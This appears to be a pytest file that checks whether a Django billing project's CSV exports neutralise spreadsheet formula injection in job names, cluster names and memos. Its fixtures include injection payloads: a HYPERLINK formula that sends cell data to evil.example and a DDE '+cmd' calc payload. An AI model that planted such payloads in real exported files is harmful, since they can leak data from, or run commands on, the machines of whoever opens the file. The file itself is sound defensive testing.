"""Every CSV the project writes (the usage report, the monthly statements) goes through one writer
that writes a cell a spreadsheet would run as a formula as text: a job named
`=HYPERLINK(...)`, a seller's cluster named `@SUM(...)`, a memo `+cmd`. The value stays
readable: the cell is the text as written, after a `'`."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from billing import services as billing_services
from computeshare.csv_export import csv_writer
from organizations.models import Membership
from tests.conftest import client_for
from tests.factories import MembershipFactory, PartitionFactory, allocation_bought
from tests.scheduler_bridge.test_jobs_api import _ran

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
FORMULAS = [
    HYPERLINK,
    "@SUM(1,2)",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "%APPDATA%",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def _written(rows: list[list[object]]) -> list[list[str]]:
    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_stays_readable(cell):
    [[written]] = _written([[cell]])

    assert written.startswith("'")
    # What a reader sees after the apostrophe is what was there (defusedcsv escapes a `|`).
    assert written[1:].replace("\\|", "|") == cell


@pytest.mark.parametrize(
    "cell",
    ["-12.345678", "12.50", "0", "hello = world", "Job =1+1 on c", "", "café", " =1"],
)
def test_plain_text_and_numbers_are_written_as_they_are(cell):
    assert _written([[cell]]) == [[cell]]


def test_numbers_and_negative_amounts_are_left_alone():
    assert _written([[Decimal("-12.345678"), -3, 1.5, None]]) == [["-12.345678", "-3", "1.5", ""]]


@pytest.mark.django_db
def test_the_usage_csv_writes_a_job_name_and_a_sellers_cluster_name_as_text(team):
    allocation = allocation_bought(
        team.organization, partition=PartitionFactory(cpus=8, nodes=2, gpus=0), quantity=100
    )
    cluster = allocation.cluster
    cluster.name = "@SUM(1,2)"
    cluster.save(update_fields=["name"])
    _ran(allocation, team.member, HYPERLINK, elapsed=1800)
    _ran(allocation, team.member, "-1+1", elapsed=900)
    _ran(allocation, team.member, "plain name", elapsed=600)

    answer = client_for(team.member).get(
        f"/api/v1/organizations/{team.organization.uuid}/usage/?format=csv"
    )

    assert answer.status_code == 200
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(answer.content.decode()))}
    assert set(rows) == {"'" + HYPERLINK, "'-1+1", "plain name"}
    assert {row["cluster"] for row in rows.values()} == {"'@SUM(1,2)"}
    # The figures are still numbers.
    assert rows["plain name"]["units"] == "0.166667" and rows["plain name"]["cost"] == "0.333334"


@pytest.mark.django_db
def test_the_statement_csv_writes_memos_as_text_for_buyer_and_seller(client, team):
    allocation = allocation_bought(
        team.organization, partition=PartitionFactory(cpus=8, nodes=2, gpus=0), quantity=100
    )
    allocation.cluster.name = "+cmd"
    allocation.cluster.save(update_fields=["name"])
    _ran(allocation, team.member, HYPERLINK, elapsed=1800)
    billing_services.wallet_adjust(
        organization=team.organization, amount=Decimal("5"), memo="=1+1", actor=team.admin
    )
    seller_admin = MembershipFactory(
        organization=allocation.cluster.organization, role=Membership.Role.ADMIN
    ).user
    now = timezone.now()

    def statement(user, organization) -> list[dict[str, str]]:
        client.force_login(user)
        answer = client.get(
            reverse("organization-statement", args=[organization.uuid, now.year, now.month]),
            {"format": "csv"},
        )
        assert answer.status_code == 200
        return list(csv.DictReader(io.StringIO(answer.content.decode())))

    buyer_rows = statement(team.admin, team.organization)
    seller_rows = statement(seller_admin, allocation.cluster.organization)

    assert "'=1+1" in [row["memo"] for row in buyer_rows]
    for row in buyer_rows + seller_rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or value.replace(".", "").lstrip("-").isdigit(), row
    earnings = [row for row in seller_rows if row["kind"] == "earning"]
    assert earnings and all(Decimal(row["amount"]) > 0 for row in earnings)
